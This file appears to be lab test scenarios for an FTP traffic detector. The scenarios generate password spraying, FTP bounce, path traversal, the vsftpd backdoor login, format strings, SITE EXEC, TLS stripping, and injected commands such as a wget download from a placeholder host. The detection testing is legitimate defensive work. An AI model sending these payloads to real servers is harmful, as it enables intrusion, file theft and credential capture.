# SPDX-License-Identifier: GPL-2.0-or-later
# Knows the scenarios in which somebody does to a server, or its users, what their owners do not
# want. Brute force in a hurry is with the other logins.
# Refuses to know how a network, a server or a truth is made. None of it succeeds against a server
# of today, but for what that server was told to allow.

import alter
import net
from clients.curl import Curl
from clients.ftplib import Ftplib
from lab import noise
from scenarios.logins import GUESSES, STAFF
from scenarios.table import scenario
from servers.pyftpdlib import Pyftpdlib
from servers.vsftpd import Vsftpd

PROMPT = {"delay_failed_login": "0"}
# A second for each wrong password, which the scenario makes minutes of.
UNHURRIED = {"delay_failed_login": "1", "max_login_fails": "20"}
LESS_LIKELY = ["walrus", "carpenter", "oyster", "lobster"]


def _numbers(ip, port):
    return f"{ip.replace('.', ',')},{port >> 8},{port & 255}"


@scenario("Twelve passwords for one user, one each five minutes: no brute force within any minute.",
          [""], show="-Y ftpx.login.slow_guessing", attack=True)
def slow_guessing(lab):
    lab.serve(Vsftpd, **UNHURRIED)
    words = [*GUESSES, *LESS_LIKELY]
    lab.wrong_passwords += words
    lab.use(Ftplib, *(f"login alice {word}" for word in words))
    lab.alter(alter.stretch, 300)


@scenario("One password for six users, one each five minutes; nobody has it.", [""],
          show="-Y ftpx.login.spraying", attack=True)
def slow_spraying(lab):
    lab.serve(Vsftpd, **UNHURRIED)
    lab.wrong_passwords += ["Summer2024!"]
    lab.use(Ftplib, *(f"login {user} Summer2024!" for user in STAFF[:6]))
    lab.alter(alter.stretch, 300)


@scenario("Five machines try a password each for one user; all are wrong.", ["", "", "", "", ""],
          show="-Y ftpx.login.spraying", attack=True)
def guessing_from_many(lab):
    lab.serve(Vsftpd, **PROMPT)
    lab.wrong_passwords += GUESSES[:5]
    for place, word in enumerate(GUESSES[:5]):
        lab.client_ip = f"192.0.2.{50 + place}"
        net.configure(net.CLIENT, "eth0", None, [f"{lab.client_ip}/24"])
        lab.use(Curl, "--interface", lab.client_ip, f"ftp://alice:{word}@{lab.server.ip}/").wait()


@scenario("PORT to a third machine, to the server itself, to all, to a group, to nobody; EPRT to "
          "loopback in IPv6; and to a port below 1024. All is refused, or never used.", [""],
          show="-Y ftpx.data.bounce", attack=True)
def bounce_targets(lab):
    lab.serve(Vsftpd)
    places = [(net.SECOND_IP, 80), (net.SERVER_IP, 22), ("127.0.0.1", 25),
              ("255.255.255.255", 40000), ("224.0.0.1", 40000), ("0.0.0.0", 40000),
              (net.CLIENT_IP, 513)]
    lab.use(Ftplib, f"login alice {lab.password('alice')}",
            *(f"quote PORT {_numbers(*place)}" for place in places), "quote 'EPRT |2|::1|6379|'")


@scenario("A third machine connects to the port of the server's 227 before the client does, and "
          "gets the file.", ["complete"], show="-Y ftpx.data.stolen", place="everywhere",
          attack=True)
def stolen_download(lab):
    lab.file("alice", "plan.txt", 900)
    lab.serve(Vsftpd, pasv_promiscuous="YES", pasv_min_port="50000", pasv_max_port="50000")
    client = lab.use(Ftplib, f"login alice {lab.password('alice')}", "robbed 1 plan.txt")
    lab.server.wait_until_it_logs("227 ")
    lab.take(net.SECOND_IP, lab.server.ip, 50000)
    client.wait()


@scenario("Paths that lead out of the root: plain, coded, nested, for Windows, to another machine, "
          "to root's home; wildcards that broke servers.", ["refused " * 13],
          show="-Y ftpx.attack", attack=True)
def path_traversal(lab):
    lab.serve(Vsftpd, chroot_local_user="YES", allow_writeable_chroot="YES")
    paths = ["/../../etc/passwd", "../../../../../etc/passwd", "%2e%2e%2f%2e%2e%2fetc%2fpasswd",
             "..%5c..%5cboot.ini", "%252e%252e%252fpasswd", "..%c0%af..%c0%afpasswd",
             "....//....//etc/passwd", ".../.../passwd", "C:\\\\..\\\\..\\\\boot.ini",
             "\\\\\\\\192.0.2.9\\\\share\\\\tool.exe", "~root/.rhosts", "~{"]
    lab.use(Ftplib, f"login alice {lab.password('alice')}",
            *(f"quote 'RETR {path}'".replace("\\\\", "\\") for path in paths),
            "quote 'CWD ~root'", "quote 'LIST */../*/../*'")


@scenario("What exploits and scanners send: SITE EXEC, SITE CPFR and CPTO, back doors of vsftpd, "
          "ProFTPD and others, format strings, arguments too long, shell commands, coded line "
          "breaks.", ["refused refused refused"], show="-Y ftpx.attack", attack=True)
def exploit_attempts(lab):
    lab.serve(Vsftpd, **PROMPT)
    lab.use(Ftplib, "quote 'HELP ACIDBITCHEZ'", "quote 'USER x:)'", "quote 'USER w0rm'",
            "quote 'USER %08x.%08x.%n'", f"quote 'CWD {'A' * 600}'",
            f"login alice {lab.password('alice')}", "quote 'SITE EXEC /bin/id'",
            "quote 'SITE CPFR /etc/passwd'", "quote 'SITE CPTO /tmp/x'", "quote 'MKD %x%x%n'",
            "quote 'RETR |touch x'", "quote 'RETR --use-compress-program=id x.tar'",
            "quote 'RETR a;wget http://192.0.2.9/x'", "quote 'CWD `id`'",
            "quote 'CWD a%0d%0aDELE%20b'")


@scenario("HTTP on FTP's port: a page's form that a browser was made to send there, with FTP "
          "commands in its content.", [""], show="-Y ftpx.attack", attack=True)
def http_request(lab):
    lab.serve(Vsftpd)
    lab.use(Ftplib, "quote 'POST / HTTP/1.1'", f"quote 'Host: {lab.server.ip}:21'",
            "quote 'Content-Type: text/plain'", f"quote 'PORT {_numbers(net.CLIENT_IP, 40000)}'")


@scenario("An anonymous user uploads, makes a directory, renames; deleting is refused.",
          ["complete"], show="-Y ftpx.command.anonymous_write", attack=True)
def anonymous_write(lab):
    lab.file("ftp", "incoming/README", 100)
    lab.serve(Vsftpd, anon_upload_enable="YES", anon_mkdir_write_enable="YES", anon_umask="022")
    net.call("chown", "-R", "ftp", str(lab.server.real("anonymous", "/incoming")))
    lab.local("gift.txt", noise("gift.txt", 300))
    lab.use(Ftplib, "login anonymous guest@example.net", "put gift.txt incoming/gift.txt",
            "quote 'MKD incoming/.tmp'", "quote 'DELE incoming/README'")


@scenario("As a password stealer does: log in, upload a file named after user, machine and time, "
          "leave.", ["complete"], show="-Y ftpx.transfer.host_named", attack=True)
def stealer_upload(lab):
    name = "PW_alice-DESKTOP-4AB7C2D_2024_05_06_10_11_12.html"
    lab.serve(Pyftpdlib)
    lab.local(name, noise(name, 400))
    lab.use(Ftplib, f"login alice {lab.password('alice')}", f"put {name}")


@scenario("Somebody between client and server answers AUTH TLS in the server's name; FEAT still "
          "offers it, and the password goes in the clear.", [""], show="-Y ftpx.tls.stripped",
          place="client", attack=True)
def tls_stripped(lab):
    lab.serve(Vsftpd, tls="explicit")
    lab.strip(lab.server.ip)
    lab.use(Ftplib, "quote FEAT", "quote 'AUTH TLS'", f"login alice {lab.password('alice')}")
